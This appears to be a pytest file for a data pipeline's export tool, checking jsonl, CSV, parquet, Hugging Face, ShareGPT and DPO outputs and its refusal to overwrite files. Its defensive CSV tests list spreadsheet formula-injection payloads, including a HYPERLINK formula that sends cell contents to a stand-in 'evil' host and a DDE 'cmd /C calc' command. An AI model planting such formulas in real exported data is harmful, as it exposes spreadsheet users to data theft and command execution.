"""Tables for other programs: what is read back is the table of the version, and no existing file is replaced."""

import csv
import json
import re
from pathlib import Path

import polars as pl
import pytest
from finished_run import LONG, NASTY, commit, damage, drawn, hir, ruling_out

from hir_core.config import FilePrompts
from hir_core.errors import ConfigError, VersionCorrupt, VersionNotFound
from hir_core.inspect.export import FORMS, export
from hir_core.inspect.rows import head
from hir_core.prompts.load import load_prompts
from hir_core.store.store import Store
from hir_core.store.version import VersionRef

STAGE_OF = {"sharegpt": "triples@1", "dpo": "rewards@1"}
"""What can be exported in a form that is made of one stage's rows."""
TABLES = ["prompts@0", "samples@1", "rewards@2", "triples@1", "evaluations@1"]


@pytest.fixture
def store(small_run) -> Store:
    return small_run


def rows_of(store: Store, text: str) -> list[dict]:
    return head(store, store.resolve(text), 100).to_dicts()


@pytest.mark.parametrize("text", TABLES)
def test_json_lines_are_the_rows(store, text, tmp_path):
    assert export(store, store.resolve(text), "jsonl", tmp_path / "out.jsonl") == (len(rows_of(store, text)), 0, "")
    lines = (tmp_path / "out.jsonl").read_text().split("\n")
    assert lines.pop() == ""
    assert [json.loads(line) for line in lines] == rows_of(store, text)


@pytest.mark.parametrize("text", TABLES)
def test_parquet_is_one_file_with_the_rows(store, text, tmp_path):
    export(store, store.resolve(text), "parquet", tmp_path / "out.parquet")
    assert pl.read_parquet(tmp_path / "out.parquet").to_dicts() == rows_of(store, text)


@pytest.mark.parametrize("text", TABLES)
def test_csv_has_lists_as_json_in_a_cell(store, text, tmp_path, monkeypatch):
    export(store, store.resolve(text), "csv", tmp_path / "out.csv")
    monkeypatch.setattr(csv, "field_size_limit", None)
    with (tmp_path / "out.csv").open(newline="") as file:
        found = list(csv.DictReader(file))
    for row, expected in zip(found, rows_of(store, text), strict=True):
        for name, value in expected.items():
            cell = row[name]
            if isinstance(value, list):
                assert json.loads(cell) == value
            elif isinstance(value, (int, float)) and not isinstance(value, bool):
                assert float(cell) == value
            elif isinstance(value, str):
                assert cell == value
            else:
                assert cell == ("" if value is None else str(value).lower())


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet"])
def test_prompts_come_back_as_prompts(store, form, tmp_path):
    out = tmp_path / f"out.{form}"
    export(store, store.resolve("prompts@0"), form, out)
    again, rejected = load_prompts((FilePrompts(path=out),))
    facts = ["task", "split", "query", "references"]
    assert sorted(again.select(facts).iter_rows()) == sorted(
        tuple(row[n] for n in facts) for row in rows_of(store, "prompts@0")
    )
    assert sum(rejected.values()) == 0


def test_a_folder_is_what_datasets_loads(store, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    datasets = pytest.importorskip("datasets")
    for text in ("prompts@0", "samples@1", "rewards@1"):
        out = tmp_path / text.split("@")[0]
        export(store, store.resolve(text), "hf", out)
        loaded = datasets.load_dataset(str(out), cache_dir=str(tmp_path / "cache"))
        rows = [row for split in loaded.values() for row in split]
        assert list(loaded) == (["train", "test"] if text == "prompts@0" else ["train"])
        assert rows == rows_of(store, text)


def test_datasets_loads_the_folder_of_a_version_and_passes_over_its_manifest(store, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    datasets = pytest.importorskip("datasets")
    for text in ("samples@1", "rewards@1"):  # of two parts, and of one
        folder = str(store.resolve(text).path.resolve())
        assert Path(folder, "manifest.json").is_file()
        by_parts = {"path": "parquet", "data_dir": folder, "data_files": "part-*.parquet"}
        for call in ({"path": folder}, by_parts):
            loaded = datasets.load_dataset(**call, split="train", cache_dir=str(tmp_path / "cache"))
            assert list(loaded) == rows_of(store, text)


@pytest.mark.parametrize("form", [form for form in FORMS if form != "dpo"])
def test_an_output_that_is_only_ruled_out_is_not_handed_on_to_be_imitated(store, form, tmp_path):
    triples = ruling_out(store)
    assert export(store, triples, form, tmp_path / "out")[:2] == (4, 1)
    if form == "jsonl":
        rows = [json.loads(line) for line in (tmp_path / "out").read_text().splitlines()]
        assert {row["sample_id"]: row["excluded_from"] for row in rows}["s1p11"] is not None
        assert "s1p31" not in {row["sample_id"] for row in rows}
    text = hir("export", str(triples), "again", "--to", form)
    assert text.startswith("4 rows in again\nleft out: 1 rows of weight 0, whose outputs are only ruled out")


# --- what a spreadsheet would run ------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=", "-",
    "＝1+1", "＋1", "－1", "＠a", "=cmd|' /C calc'!A0", "+49 30 1234", "-5 apples; =1+1",
]  # fmt: skip
HARMLESS = ["", "a=1", " =1", "'=1", "-5", "+5", "-.5", "+1.5e-3", "12", "1-2", "[1]", "a;=1", 'say "=1"', "a\n=1"]


def exported(tmp_path: Path, texts: list[str], **how: bool) -> list[str]:
    """The texts that a CSV reader finds where a model wrote these texts."""
    store, model = Store(tmp_path / "odd"), VersionRef("models", "0000-00000000", tmp_path)
    row = drawn(1, model)[0]
    rows = [row | {"sample_id": f"{number:03}", "completion": text} for number, text in enumerate(texts)]
    export(store, commit(store, "samples", 1, [], rows), "csv", tmp_path / "odd.csv", **how)
    with (tmp_path / "odd.csv").open(newline="") as file:
        found = list(csv.DictReader(file))
    assert [(row["k"], row["seed"], row["logprobs"]) for row in found] == [("0", "0", "[-0.5]")] * len(texts)
    return [row["completion"] for row in found]


def test_no_text_in_csv_begins_as_a_formula_and_all_others_are_as_they_were(tmp_path):
    texts = exported(tmp_path, FORMULAS + HARMLESS)
    assert texts == ["'" + text for text in FORMULAS] + HARMLESS
    assert not any(text[:1] in "=+-@\t\r\n" for text in texts if text and not re.fullmatch(r"[+-]?[\d.e-]+", text))


def test_raw_csv_has_every_text_as_it_is(tmp_path):
    assert exported(tmp_path, FORMULAS + HARMLESS, is_raw=True) == FORMULAS + HARMLESS


def test_the_option_raw_is_for_csv(store):
    hir("export", "samples@1", "raw.csv", "--to", "csv", "--raw")
    assert "--raw is for csv only" in hir("export", "samples@1", "raw.jsonl", "--to", "jsonl", "--raw", code=2)
    assert not Path("raw.jsonl").exists()
    assert "gets a ' in front" in " ".join(hir("export", "--help").replace("│", " ").split())


# --- what is refused -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", FORMS)
def test_nothing_is_replaced(store, form, tmp_path):
    (tmp_path / "file").write_text("mine")
    (tmp_path / "folder").mkdir()
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    for name in ("file", "folder", "dangling"):
        with pytest.raises(ConfigError, match="exists already"):
            export(store, store.resolve("samples@1"), form, tmp_path / name)
    assert (tmp_path / "file").read_text() == "mine"
    assert not (tmp_path / "nowhere").exists()


@pytest.mark.parametrize("form", FORMS)
def test_a_file_that_appears_meanwhile_is_not_replaced(store, form, tmp_path, monkeypatch):
    out = tmp_path / "out"
    write = FORMS[form]

    def slow(table: pl.DataFrame, place: Path) -> None:
        write(table, place)
        out.write_text("mine")

    monkeypatch.setitem(FORMS, form, slow)
    with pytest.raises(ConfigError, match="cannot write"):
        export(store, store.resolve(STAGE_OF.get(form, "samples@1")), form, out)
    assert out.read_text() == "mine"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "runs"]


def test_a_place_that_cannot_be_written_is_an_error(store, tmp_path):
    samples = store.resolve("samples@1")
    for out, message in (
        (tmp_path / "no" / "out", "there is no folder"),
        (store.run_dir / "out.csv", "lies inside the run"),
        (samples.path / "part-9.parquet", "lies inside the run"),
        (tmp_path / ("x" * 300), "cannot write"),
    ):
        with pytest.raises(ConfigError, match=message):
            export(store, samples, "csv", out)
    with pytest.raises(ConfigError, match="no form `xlsx`: expected one of jsonl, csv, parquet, hf"):
        export(store, samples, "xlsx", tmp_path / "out")
    with pytest.raises(VersionNotFound, match="holds no table"):
        export(store, store.resolve("models@1"), "csv", tmp_path / "out")
    damage(store.parts(samples)[0])
    with pytest.raises(VersionCorrupt):
        export(store, samples, "csv", tmp_path / "out")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["runs"]


# --- chats -----------------------------------------------------------------------------------------------------------


def lines_of(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_triples_are_conversations_and_read_back_as_prompts(store, tmp_path):
    triples = [row for row in rows_of(store, "triples@1") if row["weight"] > 0]
    made = export(store, store.resolve("triples@1"), "sharegpt", tmp_path / "chats.jsonl")
    assert made.rows == len(triples)
    assert made.left_out == 5 - len(triples)
    for row, chat in zip(triples, lines_of(tmp_path / "chats.jsonl"), strict=True):
        *_, asked, answer = chat["conversations"]
        assert asked == {"from": "human", "value": f"{row['instruction']}\n\n{row['query']}"}
        assert answer == {"from": "gpt", "value": row["output"]}
    prompts, _ = load_prompts([FilePrompts(path=tmp_path / "chats.jsonl", duplicates="drop")])
    assert set(prompts["query"]) == {f"{row['instruction']}\n\n{row['query']}" for row in triples}


def test_rewards_are_pairs_of_a_right_and_a_wrong_completion(store, tmp_path):
    scores = {row["sample_id"]: row["score"] for row in rows_of(store, "rewards@1")}
    texts: dict[str, dict[bool, list[str]]] = {}
    for row in sorted(rows_of(store, "samples@1"), key=lambda row: row["k"]):
        if (score := scores[row["sample_id"]]) is not None:
            found = texts.setdefault(row["prompt_id"], {True: [], False: []})[score >= 1.0]
            found += [row["completion"]] * (row["completion"] not in found)
    expected = {
        (prompt, right, wrong)
        for prompt, found in texts.items()
        for right, wrong in zip(found[True], found[False], strict=False)
    }
    made = export(store, store.resolve("rewards@1"), "dpo", tmp_path / "pairs.jsonl")
    rows = lines_of(tmp_path / "pairs.jsonl")
    assert {(row["prompt_id"], row["chosen"][0]["content"], row["rejected"][0]["content"]) for row in rows} == expected
    assert made.rows == len(expected) > 0
    assert made.left_out == len(scores) - 2 * len(expected)
    assert {row["prompt"][-1]["role"] for row in rows} == {"user"}
    with pytest.raises(ConfigError, match=r"--to dpo is for rewards, and samples/.* is none: give .* rewards@latest"):
        export(store, store.resolve("samples@1"), "dpo", tmp_path / "x.jsonl")


# --- the commands ----------------------------------------------------------------------------------------------------


def test_path_prints_the_folder(store, tmp_path):
    assert hir("path", "small/samples@1") == f"{store.resolve('samples@1').path}\n"
    assert json.loads(hir("path", "models@1", "--json"))["path"] == str(store.resolve("models@1").path)
    assert "no version" in hir("path", "samples@9", code=2)


def test_export_says_what_it_wrote(store):
    assert hir("export", "samples@1", "out.csv", "--to", "csv") == "6 rows in out.csv\n"
    assert LONG in Path("out.csv").read_text()
    assert "exists already" in hir("export", "samples@1", "out.csv", "--to", "csv", code=2)
    assert json.loads(hir("export", "triples@1", "hf", "--to", "hf", "--json")) == {
        "rows": 5,
        "left_out": 0,
        "reason": "",
        "path": "hf",
    }
    assert "no form `x`" in hir("export", "samples@1", "y", "--to", "x", code=2)
    assert NASTY in {row["completion"] for row in pl.read_csv("out.csv").to_dicts()}
